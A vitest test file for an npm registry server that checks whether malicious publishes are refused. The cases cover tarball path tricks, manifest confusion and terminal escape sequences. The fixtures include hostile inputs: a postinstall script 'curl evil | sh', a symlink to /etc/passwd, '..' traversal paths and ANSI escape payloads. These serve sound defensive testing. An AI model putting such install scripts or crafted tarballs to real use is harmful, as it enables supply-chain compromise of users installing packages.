import { describe, expect, it } from 'vitest';
import { rawTgz, type RawEntry } from './_tar.ts';
import { esc, publish, publishBody, setup, snapshot } from './_helpers.ts';

const pj = (over: Record<string, unknown> = {}) => JSON.stringify({ name: 'victim', version: '2.0.0', ...over });
const pkgJson = (over: Record<string, unknown> = {}): RawEntry => ({ name: 'package/package.json', data: pj(over) });
const index: RawEntry = { name: 'package/index.js', data: 'module.exports = 1;\n' };

/** A publish of victim@2.0.0 whose attachment is `entries` (hashes right), with `manifest` in the body. */
const body = (entries: RawEntry[], manifest: Record<string, unknown> = {}) =>
  publishBody('victim', '2.0.0', { tgz: rawTgz(entries), manifest });

describe('tarballs read as npm extracts them', () => {
  it('refuses what node-tar would extract differently, with a 400 naming the entry, and writes nothing', async () => {
    const s = setup({ config: { publicUrl: '', packages: [], uplinks: {}, limits: { maxTarballEntries: 40 } } });
    await publish(s, 'victim', '1.0.0');
    await s.handler.idle();
    const before = await snapshot(s.store);
    const evil = pj({ name: 'victim', scripts: { postinstall: 'curl evil | sh' }, dependencies: { evil: '*' } });
    const cases: Array<[string, RawEntry[], RegExp, number?]> = [
      ['a second package/package.json (npm keeps the last)', [pkgJson(), index, { name: 'package/package.json', data: evil }], /twice/],
      ['package.json given through the ustar prefix field as a second copy', [pkgJson(), { name: 'package.json', prefix: 'package', data: evil }], /twice/],
      ['package.json through the prefix field naming another package', [{ name: 'package.json', prefix: 'package', data: pj({ name: 'other' }) }], /names other/],
      ['a pax path record overriding the name', [pkgJson(), { name: 'package/harmless.txt', pax: { path: 'package/package.json' }, data: evil }], /twice/],
      ['a ".." path (node-tar drops it)', [pkgJson(), { name: 'package/x/../package.json', data: evil }], /"\.\."/],
      ['an absolute path (node-tar strips the root)', [pkgJson(), { name: '/package/index.js', data: 'x' }], /absolute/],
      ['a "." segment', [pkgJson(), { name: 'package/./index.js', data: 'x' }], /"\." segment/],
      ['an empty segment', [pkgJson(), { name: 'package//index.js', data: 'x' }], /empty segment/],
      ['a backslash', [pkgJson(), { name: 'package\\..\\evil.js', data: 'x' }], /backslash/],
      ['a symlink', [pkgJson(), { name: 'package/link', type: '2', linkname: '/etc/passwd' }], /SymbolicLink/],
      ['a hardlink', [pkgJson(), { name: 'package/hard', type: '1', linkname: 'package/package.json' }], /Link/],
      ['a character device', [pkgJson(), { name: 'package/tty', type: '3' }], /CharacterDevice/],
      ['a block device', [pkgJson(), { name: 'package/sda', type: '4' }], /BlockDevice/],
      ['a FIFO', [pkgJson(), { name: 'package/pipe', type: '6' }], /FIFO/],
      ['an unknown entry type npm skips', [pkgJson(), { name: 'package/odd', type: 'V', data: 'x' }], /type/],
      ['the same file twice by case (macOS, Windows)', [pkgJson(), { name: 'package/README.md', data: 'a' }, { name: 'package/readme.md', data: 'b' }], /twice/],
      ['a file that is also a folder', [pkgJson(), { name: 'package/lib', data: 'a' }, { name: 'package/lib/x.js', data: 'b' }], /file and as a folder/],
      ['a file outside the package folder', [pkgJson(), { name: 'stray.js', data: 'x' }], /outside/],
      ['no package.json where npm reads it', [{ name: 'package/lib/package.json', data: pj() }], /no package\.json/],
      ['more entries than limits.maxTarballEntries', [pkgJson(), ...Array.from({ length: 45 }, (_, i) => ({ name: `package/f${i}.js`, data: '' }))], /more than 40 entries/, 413],
    ];
    for (const [what, entries, message, status = 400] of cases) {
      const res = await s.call('PUT', '/victim', { token: 'tok-ana', body: await body(entries) });
      const json = await res.json();
      expect(res.status, `${what}: ${json.error}`).toBe(status);
      expect(json.error, what).toMatch(message);
    }
    await s.handler.idle();
    expect(await snapshot(s.store)).toEqual(before);
    expect(s.logs.filter((l) => l.status >= 500)).toEqual([]);
    // a tarball written with the prefix field alone is valid ustar and read as npm reads it
    const prefixed = await body([{ name: 'package.json', prefix: 'package', data: pj() }, index]);
    expect((await s.call('PUT', '/victim', { token: 'tok-ana', body: prefixed })).status).toBe(201);
  });
});

describe('no manifest confusion', () => {
  const withPkg = (over: Record<string, unknown>, extra: RawEntry[] = []) => [pkgJson(over), index, ...extra];

  it('refuses a body whose install-relevant fields differ from the tarball\'s package.json, naming the field', async () => {
    const s = setup();
    const cases: Array<[Record<string, unknown>, Record<string, unknown>, string]> = [
      [{ dependencies: { evil: '^1.0.0' } }, {}, 'dependencies'],
      [{ dependencies: { a: '^1.0.0' } }, { dependencies: { a: '^2.0.0' } }, 'dependencies'],
      [{ optionalDependencies: { x: '1' } }, {}, 'optionalDependencies'],
      [{ peerDependencies: { react: '*' } }, { peerDependencies: {} }, 'peerDependencies'],
      [{ bin: { victim: 'evil.js' } }, { bin: { victim: 'cli.js' } }, 'bin'],
      [{ bin: 'cli.js' }, {}, 'bin'],
      [{ engines: { node: '>=99' } }, { engines: { node: '>=18' } }, 'engines'],
      [{ os: ['linux'] }, {}, 'os'],
      [{ cpu: ['x64'] }, { cpu: ['arm64'] }, 'cpu'],
      [{ scripts: { postinstall: 'node evil.js' } }, { scripts: { test: 'vitest' } }, 'scripts.postinstall'],
      [{ scripts: { preinstall: 'a' } }, { scripts: { preinstall: 'b' } }, 'scripts.preinstall'],
      [{ scripts: { install: 'node x' } }, { scripts: { install: 'node x' }, hasInstallScript: false }, 'hasInstallScript'],
      [{}, { hasInstallScript: true }, 'hasInstallScript'],
    ];
    for (const [tarball, manifest, field] of cases) {
      const res = await s.call('PUT', '/victim', { token: 'tok-ana', body: await body(withPkg(tarball), manifest) });
      const json = await res.json();
      expect(res.status, `${field}: ${json.error}`).toBe(400);
      expect(json.error).toContain(`body's ${field} differs`);
    }
    expect(await s.store.head('packages/victim/manifest.json')).toBeNull();
  });

  it('accepts what npm\'s own normalisation changes, and serves install facts taken from the tarball', async () => {
    const s = setup();
    const ok = async (version: string, pkg: Record<string, unknown>, manifest: Record<string, unknown>, extra: RawEntry[] = []) => {
      const tgz = rawTgz([{ name: 'package/package.json', data: JSON.stringify({ name: 'victim', version, ...pkg }) }, index, ...extra]);
      const res = await s.call('PUT', '/victim', { token: 'tok-ana', body: await publishBody('victim', version, { tgz, manifest, tag: version === '1.0.0' ? 'latest' : `t${version.replace(/\./g, '')}` }) });
      expect(res.status, await res.clone().text()).toBe(201);
    };
    // bin as a string, "./" targets; optional dependencies left out of dependencies (npm dedupes them)
    await ok('1.0.0', { bin: './cli.js', dependencies: { a: '1', o: '2' }, optionalDependencies: { o: '2' } }, { bin: { victim: 'cli.js' }, dependencies: { a: '1' }, optionalDependencies: { o: '2' } });
    // directories.bin expanded; binding.gyp means node-gyp rebuild: an install script the body need not name
    await ok('1.1.0', { directories: { bin: './bin' } }, { bin: { tool: 'bin/tool' } }, [{ name: 'package/bin/tool', data: '#!/bin/sh\n' }, { name: 'package/binding.gyp', data: '{}' }]);
    // a postinstall both agree on, and a shrinkwrap
    await ok('1.2.0', { scripts: { postinstall: 'node setup.js' } }, { scripts: { postinstall: 'node setup.js' } }, [{ name: 'package/npm-shrinkwrap.json', data: '{}' }]);
    const abbreviated = await (await s.call('GET', '/victim', { headers: { accept: 'application/vnd.npm.install-v1+json' } })).json();
    expect(abbreviated.versions['1.0.0'].hasInstallScript).toBeUndefined();
    expect(abbreviated.versions['1.1.0'].hasInstallScript).toBe(true);
    expect(abbreviated.versions['1.2.0']).toMatchObject({ hasInstallScript: true, _hasShrinkwrap: true });
    expect(abbreviated.versions['1.0.0']._hasShrinkwrap).toBe(false);
  });
});

describe('metadata types and caps', () => {
  it('a whole-packument PUT with a version that is not an object is a 400 and keeps every deprecation', async () => {
    const s = setup();
    await publish(s, 'victim', '1.0.0');
    const doc = await (await s.call('GET', '/victim?write=true')).json();
    doc.versions['1.0.0'].deprecated = 'use 2.x';
    expect((await s.call('PUT', '/victim', { token: 'tok-ana', body: doc })).status).toBe(200);
    const res = await s.call('PUT', '/victim', { token: 'tok-ana', body: { versions: { '1.0.0': 5 } } });
    expect(res.status).toBe(400);
    expect((await res.json()).error).toMatch(/versions\.1\.0\.0 must be an object/);
    expect((await (await s.call('GET', '/victim')).json()).versions['1.0.0'].deprecated).toBe('use 2.x');
  });

  it('caps dist-tags, deprecation length and README size; drops control characters from what clients print', async () => {
    const s = setup({ config: { publicUrl: '', packages: [], uplinks: {}, limits: { maxDistTags: 3, maxDeprecationLength: 50, maxReadmeSize: 1000 } } });
    const many = await publishBody('capped', '1.0.0');
    many['dist-tags'] = Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`t${i}`, '1.0.0']));
    expect((await (await s.call('PUT', '/capped', { token: 'tok-ana', body: many })).json()).error).toMatch(/more than 3 tags/);
    const bigReadme = await publishBody('capped', '1.0.0');
    bigReadme.versions['1.0.0']!.readme = 'x'.repeat(1001);
    expect((await (await s.call('PUT', '/capped', { token: 'tok-ana', body: bigReadme })).json()).error).toMatch(/readme is larger than 1000 bytes/);
    const badType = await publishBody('capped', '1.0.0', { manifest: { keywords: 'not-a-list' } });
    expect((await (await s.call('PUT', '/capped', { token: 'tok-ana', body: badType })).json()).error).toBe('versions.1.0.0.keywords must be an array of strings');
    expect(await s.store.head('packages/capped/manifest.json')).toBeNull();

    await publish(s, 'capped', '1.0.0', { manifest: { description: 'nice\x1b]0;pwned\x07\r\nreally\u202e' } });
    for (const tag of ['a', 'b']) expect((await s.call('PUT', `/-/package/capped/dist-tags/${tag}`, { token: 'tok-ana', body: '1.0.0' })).status).toBe(200);
    const third = await s.call('PUT', '/-/package/capped/dist-tags/c', { token: 'tok-ana', body: '1.0.0' });
    expect(third.status).toBe(400);
    expect((await third.json()).error).toMatch(/more than 3 dist-tags/);

    const doc = await (await s.call('GET', '/capped?write=true')).json();
    doc.versions['1.0.0'].deprecated = 'x'.repeat(51);
    expect((await (await s.call('PUT', '/capped', { token: 'tok-ana', body: doc })).json()).error).toMatch(/longer than 50/);
    doc.versions['1.0.0'].deprecated = '\x1b[2J\x1b[31mgone\r\nfor good\x1b[0m';
    expect((await s.call('PUT', '/capped', { token: 'tok-ana', body: doc })).status).toBe(200);
    const served = await (await s.call('GET', '/capped')).json();
    expect(served.versions['1.0.0'].deprecated).toBe('[2J[31mgone for good[0m');
    expect(served.versions['1.0.0'].description).toBe('nice]0;pwned really');
    expect(JSON.stringify(served)).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
  });

  it('honours q=0 in Accept and Accept-Encoding', async () => {
    const s = setup();
    await publish(s, 'victim', '1.0.0');
    const npmAccept = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';
    const abbr = await s.call('GET', '/victim', { headers: { accept: npmAccept, 'accept-encoding': 'gzip' } });
    expect(abbr.headers.get('content-type')).toBe('application/vnd.npm.install-v1+json');
    expect(abbr.headers.get('content-encoding')).toBe('gzip');
    const refused = await s.call('GET', '/victim', { headers: { accept: 'application/vnd.npm.install-v1+json;q=0, application/json', 'accept-encoding': 'gzip;q=0, identity' } });
    expect(refused.headers.get('content-type')).toBe('application/json');
    expect(refused.headers.get('content-encoding')).toBeNull();
    expect((await refused.json()).readme).toBeDefined();
  });

  it('refuses a tarball name over 255 bytes before anything is written', async () => {
    const s = setup();
    const version = `1.0.0-${'a'.repeat(240)}`;
    const res = await s.call('PUT', `/${esc('long-name')}`, { token: 'tok-ana', body: await publishBody('long-name', version, { tag: 'next' }) });
    expect(res.status).toBe(400);
    expect((await res.json()).error).toMatch(/longer than 255 bytes/);
    expect(await snapshot(s.store)).toEqual({});
  });
});
